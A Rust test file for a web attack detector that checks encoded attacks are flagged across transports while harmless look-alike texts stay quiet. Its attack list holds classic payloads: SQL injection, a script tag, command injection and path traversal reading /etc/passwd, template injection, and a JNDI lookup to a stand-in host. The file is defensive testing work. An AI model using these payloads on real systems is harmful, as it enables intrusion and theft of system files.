//! The same attack behind every encoding and in every transport is found; harmless texts stay quiet.
//!
//! Writes `docs/detections/encodings.md` when `UPDATE_GOLDEN` is set, and otherwise holds the page against it.

#[path = "encodings/layers.rs"]
mod layers;
#[path = "encodings/transports.rs"]
mod transports;

use std::fmt::Write;

use sancha_detect::web::{Ordinary, Scratch, THRESHOLD, inspect};

use layers::{LAYERS, Layer, OWN};
use transports::TRANSPORTS;

/// One attack of each grammar that encodings are meant to hide.
const ATTACKS: [&str; 6] = [
    "1' or '1'='1' -- x",
    "<script>alert(1)</script>",
    ";cat /etc/passwd",
    "../../../../etc/passwd",
    "{{7*7}}${7*7}",
    "${jndi:ldap://h.example/a}",
];

/// Texts with the same letters and no attack.
const HARMLESS: [&str; 6] = [
    "O'Brien & Sons, rock 'n' roll",
    "5 > 3 and 2 < 4, I <3 you",
    "select a plan and drop us a line",
    "f(x) = x^2 + 3*x - 7",
    "the cat; sleep well, 50% off",
    "关于召开工作会议的通知（第3号）",
];

/// The strongest score of a text in every transport.
fn scores(text: &str) -> Vec<f32> {
    let mut scratch = Scratch::default();
    TRANSPORTS
        .iter()
        .map(|transport| {
            let mut hits = Vec::new();
            (transport.send)(text).with_request(|request| {
                inspect(request, Ordinary::default(), &mut scratch, &mut hits);
            });
            hits.iter().map(|hit| hit.score).fold(0.0, f32::max)
        })
        .collect()
}

/// How many of `texts`, encoded, are loud in each transport.
fn loud(texts: &[&str], encode: impl Fn(&str) -> String) -> Vec<usize> {
    let mut counts = vec![0; TRANSPORTS.len()];
    for text in texts {
        for (count, score) in counts.iter_mut().zip(scores(&encode(text))) {
            *count += usize::from(score >= THRESHOLD);
        }
    }
    counts
}

struct Row {
    name: String,
    attacks: usize,
    found: Vec<usize>,
    alarms: Vec<usize>,
}

fn rows() -> Vec<Row> {
    let row = |name: String, encode: &dyn Fn(&str) -> String| Row {
        name,
        attacks: ATTACKS.len(),
        found: loud(&ATTACKS, encode),
        alarms: loud(&HARMLESS, encode),
    };
    let mut rows: Vec<Row> =
        LAYERS.iter().map(|layer| row(layer.name.to_owned(), &layer.encode)).collect();
    for (outer, inner) in pairs() {
        let encode = |text: &str| (outer.encode)(&(inner.encode)(text));
        rows.push(row(format!("{} of {}", outer.name, inner.name), &encode));
    }
    // What a language itself allows has texts of its own.
    rows.extend(OWN.iter().map(|own| Row {
        name: own.name.to_owned(),
        attacks: own.attacks.len(),
        found: loud(own.attacks, str::to_owned),
        alarms: loud(own.harmless, str::to_owned),
    }));
    rows
}

/// Two layers over each other; a layer over itself is a case only for percent and base64.
fn pairs() -> impl Iterator<Item = (&'static Layer, &'static Layer)> {
    let outer = LAYERS.iter().filter(|layer| layer.nests);
    outer.flat_map(|outer| {
        LAYERS
            .iter()
            .filter(move |inner| inner.name != "as it is" && outer.name != inner.name)
            .map(move |inner| (outer, inner))
    })
}

#[test]
fn every_cell_is_found_and_every_harmless_cell_is_quiet() {
    let rows = rows();
    for row in &rows {
        for (transport, (found, alarms)) in TRANSPORTS.iter().zip(row.found.iter().zip(&row.alarms))
        {
            assert_eq!(*found, row.attacks, "missed: {} in {}", row.name, transport.name);
            assert_eq!(*alarms, 0, "alarm: {} in {}", row.name, transport.name);
        }
    }
    hold(&page(&rows));
}

fn page(rows: &[Row]) -> String {
    let mut page = String::from(include_str!("encodings/page.md"));
    let _ = write!(page, "\n| layer |");
    for transport in TRANSPORTS {
        let _ = write!(page, " {} |", transport.name);
    }
    let _ = writeln!(page, "\n| --- |{}", " --- |".repeat(TRANSPORTS.len()));
    for row in rows {
        let _ = write!(page, "| {} |", row.name);
        for (found, alarms) in row.found.iter().zip(&row.alarms) {
            let _ = write!(page, " {found}/{} · {alarms} |", row.attacks);
        }
        page.push('\n');
    }
    page
}

fn hold(page: &str) {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/detections/encodings.md");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(path, page).expect("the page is written");
    }
    let known = std::fs::read_to_string(path).unwrap_or_default();
    assert!(known == page, "docs/detections/encodings.md differs: run with UPDATE_GOLDEN=1");
}
